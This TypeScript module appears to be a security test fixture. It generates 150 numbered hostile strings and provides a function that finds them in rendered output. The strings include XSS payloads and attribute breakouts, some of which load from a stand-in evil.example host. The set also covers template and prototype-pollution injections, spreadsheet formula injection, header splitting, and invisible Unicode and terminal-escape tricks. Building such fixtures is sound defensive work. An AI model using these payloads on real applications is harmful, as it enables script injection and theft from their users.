// What an attacker writes into a name, a tag, a task or a commit. N becomes the number of the text; whatever of it runs calls alert, loads from evil.example, or leaves an attribute `xss`.
const tags = `
<script>alert(N)</script>
<ScRiPt src=//evil.example/N></sCrIpT>
<script>alert(N)//
<img xss src=x onerror=alert(N)>
<IMG XSS SRC="jav&#x09;ascript:alert(N);">
<img/xss/src=x/onerror=alert(N)>
<svg xss onload=alert(N)>
<svg><script>alert(N)</script></svg>
<svg><a xlink:href="javascript:alert(N)"><text y=9>x</text></a></svg>
<svg><animate xss onbegin=alert(N) attributeName=x dur=1s>
<svg><set attributeName=href to="javascript:alert(N)">
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(N)</script></svg>#x">
<svg><foreignObject><iframe src=javascript:alert(N)></iframe></foreignObject></svg>
<svg><style><img xss src=x onerror=alert(N)></style></svg>
<math><mi xlink:href="javascript:alert(N)">x</mi></math>
<math><mtext><table><mglyph><style><img xss src=x onerror=alert(N)>
<iframe xss srcdoc="<script>parent.alert(N)</script>"></iframe>
<iframe xss src=javascript:alert(N)></iframe>
<object data=javascript:alert(N)></object>
<embed src=javascript:alert(N)>
<base href=//evil.example/N/>
<meta http-equiv=refresh content="0;url=//evil.example/N">
<link rel=stylesheet href=//evil.example/N.css>
<link rel=import href=//evil.example/N.html>
<style>@import '//evil.example/N.css';</style>
<style>*{background:url(//evil.example/N)}</style>
<form action=javascript:alert(N)><button xss>go</button></form>
<button xss formaction=javascript:alert(N)>go</button>
<input xss autofocus onfocus=alert(N)>
<select xss autofocus onfocus=alert(N)></select>
<textarea xss autofocus onfocus=alert(N)></textarea>
<details xss open ontoggle=alert(N)>
<video xss><source onerror=alert(N)></video>
<audio xss src=x onerror=alert(N)></audio>
<body xss onload=alert(N)>
<marquee xss onstart=alert(N)>
<template><script>alert(N)</script></template>
<noscript><p title="</noscript><img xss src=x onerror=alert(N)>">
<xss-N onmouseover=alert(N)>over</xss-N>
<title><img xss src=x onerror=alert(N)></title>
<dialog xss open>N</dialog>
<a xss href=javascript:alert(N)>link</a>
<a xss href="//evil.example/N" ping="//evil.example/N">link</a>
<plaintext xss>
<table background="javascript:alert(N)">
<div xss style="background:url(//evil.example/N)">
<div xss style=animation-name:x onanimationstart=alert(N)>
<!--><img xss src=x onerror=alert(N)>-->
<?xml version="1.0"?><img xss src=x onerror=alert(N)>
<![CDATA[<img xss src=x onerror=alert(N)>]]>
<<img xss src=x onerror=alert(N)>
<img xss src=x onerror=alert(N) //`;

const attributes = `
" xss onmouseover="alert(N)
' xss onmouseover='alert(N)
" autofocus xss onfocus=alert(N) x="
"><img xss src=x onerror=alert(N)>
'><img xss src=x onerror=alert(N)>
\` xss onerror=alert(N) \`
" style="position:fixed;inset:0" xss="
" srcdoc="<script>alert(N)</script>
"/><script>alert(N)</script>
&quot; xss onmouseover=&quot;alert(N)
&#34;&#62;&#60;img xss src=x onerror=alert(N)&#62;
&lt;img xss src=x onerror=alert(N)&gt;
%22%3E%3Cimg%20xss%20src%3Dx%20onerror%3Dalert(N)%3E
\\"><img xss src=x onerror=alert(N)>
x" href="javascript:alert(N)" y="`;

const addresses = `
javascript:alert(N)
JaVaScRiPt:alert(N)
 javascript:alert(N)
javascript&colon;alert(N)
javascript&#58;alert(N)
javascript:alert(N)//https://example.org
javascript://example.org/%0aalert(N)
javascript:/*https://example.org*/alert(N)
vbscript:msgbox(N)
data:text/html,<script>alert(N)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(N)>
//evil.example/N
\\\\evil.example\\N
/\\evil.example/N
https:evil.example/N
https://example.org@evil.example/N
blob:https://evil.example/N
view-source:javascript:alert(N)
file:///etc/passwd?N
mailto:a@example.org?bcc=evil@evil.example&body=N
../../../settings/users?N`;

const streams = `
</script><script>alert(N)</script>
</script><img xss src=x onerror=alert(N)>
<!--<script>alert(N)
<!--<script></script><script>alert(N)</script>
--!><img xss src=x onerror=alert(N)>
");alert(N);//
\\");alert(N);//
';alert(N);//
\\u003c/script>\\u003cscript>alert(N)
"]);self.__next_f.push([1,"0:alert(N)"]);//
$L1 N
$undefined N
$@1 N
$F1 N
$$N
1:I["N",["x"],"default"]
0:{"N":"$Sreact.element"}
{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"alert(N)"}}
{{constructor.constructor('alert(N)')()}}
\${alert(N)}
#{alert(N)}
<%= alert(N) %>
__proto__[xss]=N
constructor.prototype.xss=N`;

const spreadsheets = `
=cmd|' /C calc'!AN
=HYPERLINK("//evil.example/N","x")
+1+N
-1-N
@SUM(N)
;=1+N
"=1+N`;

const unseen = [
  'N\u202egpj.exe',
  '\u202dN\u202c',
  '\u2066N\u2069',
  '\u2067N',
  '\u2068N',
  '\u200fN\u200e',
  '\u061cN',
  'ad\u200bmin N',
  'ad\u200cmin N',
  'ad\u200dmin N',
  '\ufeffN',
  'soft\u00adhyphen N',
  'word\u2060joiner N',
  'line\u2028alert(N)',
  'paragraph\u2029alert(N)',
  'tag \u{e0041}\u{e0042} N',
  '\u180eN',
  '\ufff9N\ufffb',
  '\u001b[31mred N\u001b[0m',
  '\u001b[2J\u001b[HN',
  '\u001b]8;;https://evil.example/N\u0007link\u001b]8;;\u0007',
  '\u001b]0;title N\u0007',
  '\u009b31mN',
  'bell\u0007N',
  'back\u0008\u0008\u0008N',
  'delete\u007fN',
  'N\r\nSet-Cookie: xss=N',
  'N\rover',
  'N\n\n<script>alert(N)</script>',
  'tab\tN\u000bvertical\u000cfeed',
];

const written = [tags, attributes, addresses, streams, spreadsheets].flatMap((lines) => lines.trim().split('\n'));

/** 150 texts, each with its mark at the end, so that it is known again where it comes out: `…[x17]`. */
export const hostileTexts: readonly string[] = [...written, ...unseen].map(
  (text, i) => `${text.replaceAll(/(?<!\w)N(?!\w)/g, String(i))}[x${i}]`,
);

/** The numbers of the texts that stand in what was read. */
export function marksIn(read: string): number[] {
  return [...read.matchAll(/\[x(\d+)\]/g)].map(([, number]) => Number(number));
}
